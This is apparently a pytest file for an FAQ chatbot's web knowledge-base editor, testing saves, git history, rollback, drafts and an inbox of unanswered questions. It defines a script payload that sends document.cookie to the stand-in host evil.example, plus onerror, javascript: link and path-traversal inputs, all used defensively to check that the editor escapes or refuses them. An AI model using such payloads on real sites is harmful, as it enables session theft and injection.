"""The knowledge editor over HTTP: roles, list with hit counts, preview and checks, save (git), try, history,
rollback, drafts, and the unanswered inbox's one-click fixes."""

from __future__ import annotations

import difflib
import re
import subprocess
import time
from pathlib import Path

import pytest

from bot.editing.history import content_hash
from bot.editing.watch import KbWatcher
from bot.kb.loader import load_knowledge_base
from bot.services import Services
from bot.settings import Settings
from bot.storage.accounts import UserStore
from bot.web import create_app
from tests.conftest import HashingEmbedder
from tests.unit.test_conversations import Conversation, save_conversations

PASSWORD = "editor test password"
SCRIPT_PAYLOAD = '<script>fetch("//evil.example/?c="+document.cookie)</script>'


def _git(cwd: Path, *args: str) -> str:
    return subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, text=True).stdout


@pytest.fixture
def app(settings: Settings, monkeypatch):
    kb = settings.kb_dir
    _git(kb, "init", "-q")
    _git(kb, "-c", "user.name=t", "-c", "user.email=t@t", "add", ".")
    _git(kb, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "initial KB")
    settings = settings.replace(rasa_port=1, action_port=1, secret_key="k")
    fake = HashingEmbedder()
    KbWatcher(settings, fake).check_once()
    users = UserStore(settings.database_path)
    users.add("eve", PASSWORD, role="editor", display_name="Eve Editor")
    users.add("ann", PASSWORD, role="agent")
    now = time.time() - 3600
    save_conversations(
        settings.var_dir / "rasa_tracker.db",
        [
            Conversation("c1", now).answered("where is my parcel", "order-tracking", 0.9),
            Conversation("c2", now + 60).answered("track my order", "order-tracking", 0.8),
            Conversation("c3", now + 120).answered("how do I return this", "returns-how", 0.8),
            Conversation("c4", now + 180).offered("do you sell gift cards", [("payments-methods", 0.1)]),
            Conversation("c5", now + 240).offered(SCRIPT_PAYLOAD, [("order-tracking", 0.1)]),
            Conversation("c6", now + 300).offered("https://evil.example/x", [("order-tracking", 0.1)]),
            Conversation("c7", now + 360).offered("sdfghjklqwrt", [("order-tracking", 0.1)]),
        ],
    )
    return create_app(test_config={"TESTING": True}, services=Services(settings, fake))


def _client(app, username: str = "eve"):
    client = app.test_client()
    page = client.get("/login").get_data(as_text=True)
    token = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
    response = client.post("/login", data={"username": username, "password": PASSWORD, "csrf_token": token})
    assert response.status_code == 302
    return client, response.headers["Location"]


def _csrf(client) -> None:
    page = client.get("/editor/").get_data(as_text=True)
    client.environ_base["HTTP_X_CSRF_TOKEN"] = re.search(r'name="csrf-token" content="([^"]+)"', page).group(1)


def test_editors_land_on_the_editor_and_agents_may_not_edit(app):
    client, landing = _client(app)
    assert landing.endswith("/editor/")
    agent, landing = _client(app, "ann")
    assert landing.endswith("/desk/") and agent.get("/editor/").status_code == 403


def test_faq_list_with_hit_counts_and_search(app):
    client, _ = _client(app)
    page = client.get("/editor/").get_data(as_text=True)
    rows = re.findall(r'<tr data-faq="([^"]+)">.*?<td class="hits">(\d+)</td>', page, re.S)
    assert rows[0] == ("order-tracking", "2") and ("returns-how", "1") in rows
    filtered = client.get("/editor/?q=payment").get_data(as_text=True)
    assert "payments-methods" in filtered and "order-tracking" not in filtered
    assert "Live version" in page


def test_preview_gives_the_form_its_fields_and_reports_problems_with_lines(app):
    client, _ = _client(app)
    _csrf(client)
    text = "## Q?\n```yaml\nid: Bad Id\n```\nAnswer <script>alert(1)</script> with a [link](javascript:alert(1))\n"
    data = client.post("/editor/preview", json={"file": "en/faq.md", "text": text}).get_json()
    assert any(p["line"] == 3 and "Bad Id" in p["message"] for p in data["problems"])
    good = text.replace("Bad Id", "good-id")
    data = client.post("/editor/preview", json={"file": "en/faq.md", "text": good}).get_json()
    assert data["entries"] == [
        {
            "id": "good-id",
            "line": 1,
            "question": "Q?",
            "answer": "Answer <script>alert(1)</script> with a [link](javascript:alert(1))",
            "alternates": [],
            "tags": [],
            "related": [],
            "channels": [],
            "audience": [],
        }
    ]
    # The answer-safety checks run while typing: raw HTML is a warning, a javascript: link an error.
    found = {(p["line"], p["severity"], p["check"]) for p in data["problems"]}
    assert found == {(5, "warning", "raw-html"), (5, "error", "unsafe-link")}
    saved = client.post("/editor/save", json={"file": "en/faq.md", "text": good, "base": "x"})
    assert saved.status_code == 422 and "unsafe" in str(saved.get_json()["problems"])
    assert client.post("/editor/preview", json={"file": "../secrets.md", "text": ""}).status_code == 400


def test_the_form_writes_only_what_changed_and_an_untouched_form_saves_the_file_byte_identical(app):
    settings = app.config["FAQBOT_SETTINGS"]
    client, _ = _client(app)
    _csrf(client)
    path = settings.kb_dir / "en" / "faq.md"
    original = path.read_bytes()
    text = original.decode("utf-8")
    entries = client.post("/editor/preview", json={"file": "en/faq.md", "text": text}).get_json()["entries"]
    untouched = [
        {"id": e["id"], "fields": {k: e[k] for k in ("question", "answer", "alternates", "tags")}} for e in entries
    ]
    composed = client.post("/editor/compose", json={"file": "en/faq.md", "text": text, "faqs": untouched}).get_json()
    assert composed["text"] == text
    head = _git(settings.kb_dir, "rev-parse", "HEAD")
    saved = client.post(
        "/editor/save", json={"file": "en/faq.md", "text": composed["text"], "base": content_hash(text)}
    )
    assert saved.status_code == 200 and saved.get_json()["commit"] is None
    assert path.read_bytes() == original and _git(settings.kb_dir, "rev-parse", "HEAD") == head

    untouched[0]["fields"]["alternates"] = [*untouched[0]["fields"]["alternates"], "where's my parcel"]
    changes = [*untouched, {"id": "gift-cards", "new": True, "fields": {"question": "Gift cards?", "answer": "Yes."}}]
    composed = client.post("/editor/compose", json={"file": "en/faq.md", "text": text, "faqs": changes}).get_json()
    diff = list(difflib.ndiff(text.split("\n"), composed["text"].split("\n")))
    assert not [line for line in diff if line.startswith("- ")]  # lines are only added
    added = [line[2:] for line in diff if line.startswith("+ ")]
    assert added[0] == "  - where's my parcel" and "## Gift cards?" in added
    saved = client.post(
        "/editor/save", json={"file": "en/faq.md", "text": composed["text"], "base": content_hash(text)}
    )
    assert saved.status_code == 200 and saved.get_json()["commit"]
    kb = load_knowledge_base(settings.kb_dir, settings.languages)
    assert "where's my parcel" in kb.get(entries[0]["id"], "en").alternates and kb.get("gift-cards", "en")

    # An id another file of the language has already is refused, named.
    copy = "## Where is it?\n```yaml\nid: order-tracking\n```\nSee above.\n"
    clash = client.post("/editor/save", json={"file": "en/other.md", "text": copy, "base": content_hash("")})
    assert clash.status_code == 422 and clash.get_json()["problems"][0]["check"] == "duplicate-id"
    assert not (settings.kb_dir / "en" / "other.md").exists()

    bad = [{"id": entries[0]["id"], "fields": {"answer": "ok\n## not a heading"}}]
    refused = client.post("/editor/compose", json={"file": "en/faq.md", "text": text, "faqs": bad})
    assert refused.status_code == 400 and "faithfully" in refused.get_json()["error"]


def test_save_commits_in_the_editors_name_and_refuses_errors_and_stale_bases(app):
    settings = app.config["FAQBOT_SETTINGS"]
    client, _ = _client(app)
    _csrf(client)
    path = settings.kb_dir / "en" / "faq.md"
    original = path.read_text(encoding="utf-8")
    edited = original.replace("Use the tracking link in your shipping email.", "Open *My orders* to track it.")

    broken = edited.replace("id: order-tracking", "id: Not An Id")
    refused = client.post("/editor/save", json={"file": "en/faq.md", "text": broken, "base": content_hash(original)})
    assert refused.status_code == 422 and path.read_text(encoding="utf-8") == original

    stale = client.post("/editor/save", json={"file": "en/faq.md", "text": edited, "base": "not-the-hash"})
    assert stale.status_code == 409 and path.read_text(encoding="utf-8") == original

    saved = client.post("/editor/save", json={"file": "en/faq.md", "text": edited, "base": content_hash(original)})
    assert saved.status_code == 200 and saved.get_json()["commit"]
    assert path.read_text(encoding="utf-8") == edited
    log = _git(settings.kb_dir, "log", "-1", "--format=%an|%s")
    assert log.strip() == "Eve Editor|KB: edit en/faq.md (web editor)"
    kb = load_knowledge_base(settings.kb_dir, settings.languages)
    assert kb.get("order-tracking", "en").answer == "Open *My orders* to track it."

    history = client.get("/editor/history?file=en/faq.md").get_json()["revisions"]
    assert [r["author"] for r in history] == ["Eve Editor", "t"]
    rolled = client.post("/editor/rollback", json={"file": "en/faq.md", "commit": history[1]["commit"]})
    assert rolled.status_code == 200 and path.read_text(encoding="utf-8") == original
    assert "roll back en/faq.md" in _git(settings.kb_dir, "log", "-1", "--format=%s")


def test_try_a_question_shows_the_band_and_ranked_candidates(app):
    client, _ = _client(app)
    data = client.get("/editor/try?lang=en&q=how do I track my order").get_json()
    assert data["band"] in ("answer", "clarify", "handoff") and data["candidates"][0]["id"] == "order-tracking"
    assert data["kb_version"] and client.get("/editor/try?q=").status_code == 400


def test_inbox_adds_an_alternate_or_starts_a_draft_and_drafts_are_published(app):
    settings = app.config["FAQBOT_SETTINGS"]
    client, _ = _client(app)
    _csrf(client)
    page = client.get("/editor/inbox?since=7d").get_data(as_text=True)
    assert "do you sell gift cards" in page
    # Junk is set apart with its reason, never offered as an alternate (and escaped on the page).
    offered, junk = page.split('id="inbox-junk"')
    assert "script" not in offered and "evil.example" not in offered and "sdfghjk" not in offered
    assert "<script>" not in junk and "&lt;script&gt;fetch" in junk
    assert "https://evil.example/x" in junk and "sdfghjklqwrt" in junk
    assert {"markup", "gibberish"} <= set(re.findall(r'<span class="badge">([a-z ]+)</span>', junk))
    before = (settings.kb_dir / "en" / "faq.md").read_text(encoding="utf-8")
    for payload in (SCRIPT_PAYLOAD, "<img src=x onerror=alert(1)>", "https://evil.example/x", "x" * 300):
        refused = client.post(
            "/editor/inbox/alternate", json={"lang": "en", "faq_id": "order-tracking", "question": payload}
        )
        assert refused.status_code == 400 and "junk" in refused.get_json()["error"]
    assert (settings.kb_dir / "en" / "faq.md").read_text(encoding="utf-8") == before
    added = client.post(
        "/editor/inbox/alternate", json={"lang": "en", "faq_id": "payments-methods", "question": "pay with gift card?"}
    )
    assert added.status_code == 201
    kb = load_knowledge_base(settings.kb_dir, settings.languages)
    assert "pay with gift card?" in kb.get("payments-methods", "en").alternates
    draft = client.post("/editor/inbox/draft", json={"lang": "en", "question": "Do you sell gift cards?"})
    assert draft.status_code == 201
    relative = draft.get_json()["file"]
    assert relative.startswith("drafts/en/") and relative in client.get("/editor/").get_data(as_text=True)
    unsafe = client.post(
        "/editor/inbox/draft", json={"lang": "en", "question": "Gift wrap?", "answer": "[Yes](javascript:alert(1))"}
    ).get_json()["file"]
    refused = client.post("/editor/publish", json={"file": unsafe})
    assert refused.status_code == 422 and refused.get_json()["problems"][0]["check"] == "unsafe-link"
    assert (settings.kb_dir / unsafe).exists() and not (settings.kb_dir / "en" / Path(unsafe).name).exists()
    published = client.post("/editor/publish", json={"file": relative})
    assert published.status_code == 201
    kb = load_knowledge_base(settings.kb_dir, settings.languages)
    assert not kb.errors and any(e.question == "Do you sell gift cards?" for e in kb.entries)
    assert not (settings.kb_dir / relative).exists()


PASSAGE_FILE = """# Caring for wood

<!-- Imported by 'faqbot kb import': a new import of the article replaces this file. -->

## Oiling and waxing
```yaml
id: wood-care-oiling
kind: passage
article:
  title: Caring for wood
  url: https://larkspur.example/help/wood-care
```

Oil oak and walnut **once or twice a year**, or when the surface looks dry.
"""


def test_a_help_center_passage_opens_edits_saves_and_goes_live_like_an_faq(app):
    settings = app.config["FAQBOT_SETTINGS"]
    services = app.extensions["faqbot"]
    client, _ = _client(app)
    _csrf(client)
    relative = "en/articles/wood-care.md"
    saved = client.post("/editor/save", json={"file": relative, "text": PASSAGE_FILE, "base": content_hash("")})
    assert saved.status_code == 200 and saved.get_json()["commit"], saved.get_json()
    # The list shows it by its article and heading; its file opens in the editor (form and raw text).
    listing = client.get("/editor/?q=oil").get_data(as_text=True)
    assert "Caring for wood — Oiling and waxing" in listing and f"{relative}:5" in listing
    page = client.get(f"/editor/edit?file={relative}").get_data(as_text=True)
    assert "id: wood-care-oiling" in page and "article-source" in page
    entries = client.post("/editor/preview", json={"file": relative, "text": PASSAGE_FILE}).get_json()["entries"]
    assert entries[0]["kind"] == "passage" and entries[0]["question"] == "Oiling and waxing"
    assert entries[0]["title"] == "Caring for wood — Oiling and waxing"
    assert entries[0]["article"] == {"title": "Caring for wood", "url": "https://larkspur.example/help/wood-care"}
    # The form edits its heading and text; its kind and article stay as the import wrote them.
    fields = {"question": "Oiling", "answer": "Oil it **twice a year**.", "alternates": [], "tags": []}
    composed = client.post(
        "/editor/compose",
        json={"file": relative, "text": PASSAGE_FILE, "faqs": [{"id": "wood-care-oiling", "fields": fields}]},
    ).get_json()
    expected = PASSAGE_FILE.replace("## Oiling and waxing", "## Oiling").replace(
        "Oil oak and walnut **once or twice a year**, or when the surface looks dry.", "Oil it **twice a year**."
    )
    assert composed["text"] == expected and composed["problems"] == []
    with_alternates = dict(fields, alternates=["how do I oil it"])
    refused = client.post(
        "/editor/compose",
        json={"file": relative, "text": PASSAGE_FILE, "faqs": [{"id": "wood-care-oiling", "fields": with_alternates}]},
    )
    assert refused.status_code == 400 and "no alternates" in refused.get_json()["error"]
    # The raw view: a non-http article URL is an error and is not saved.
    unsafe = PASSAGE_FILE.replace("https://larkspur.example/help/wood-care", "javascript:alert(1)")
    bad = client.post("/editor/save", json={"file": relative, "text": unsafe, "base": content_hash(PASSAGE_FILE)})
    assert bad.status_code == 422 and "http:// or https://" in str(bad.get_json()["problems"])
    saved = client.post("/editor/save", json={"file": relative, "text": expected, "base": content_hash(PASSAGE_FILE)})
    assert saved.status_code == 200 and saved.get_json()["commit"]
    # Hot reload: the watcher builds the edit and the live bot has the passage, with its own ranker.
    KbWatcher(settings, HashingEmbedder()).check_once()
    index = services.faq.index
    live = index.entry("wood-care-oiling", "en")
    assert live is not None and live.is_passage and live.answer == "Oil it **twice a year**."
    assert "en" in index.passage_rankers and "en" in index.rankers
